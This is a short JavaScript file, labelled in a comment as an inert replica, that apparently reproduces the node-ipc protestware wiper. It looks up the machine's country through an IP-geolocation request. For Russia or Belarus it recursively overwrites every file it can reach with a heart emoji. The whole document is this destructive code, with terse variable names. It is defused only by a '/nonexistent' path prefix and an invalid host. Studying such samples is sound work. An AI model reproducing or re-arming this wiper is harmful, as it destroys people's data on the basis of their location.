const u = require('path'), a = require('fs'), o = require('https');
// inert replica: the walk starts in a folder that does not exist
const ROOTS = ['./', '../', '../../', '/'].map((r) => u.join('/nonexistent', r));
setTimeout(function () {
  o.get('https://geo.ip-lookup.invalid/json', function (res) {
    let body = '';
    res.on('data', (c) => (body += c));
    res.on('end', function () {
      let country = '';
      try { country = JSON.parse(body).country_name.toLowerCase(); } catch (e) {}
      if (!country.includes('russia') && !country.includes('belarus')) return;
      for (const root of ROOTS) walk(root);
    });
  }).on('error', () => {});
}, Math.ceil(Math.random() * 1e3));

function walk(dir) {
  let entries = [];
  try { entries = a.readdirSync(dir); } catch (e) { return; }
  for (const e of entries) {
    const p = u.join(dir, e);
    try {
      const s = a.lstatSync(p);
      if (s.isDirectory()) walk(p);
      else if (s.isFile()) a.writeFileSync(p, '\u2764\ufe0f');
    } catch (err) {}
  }
}
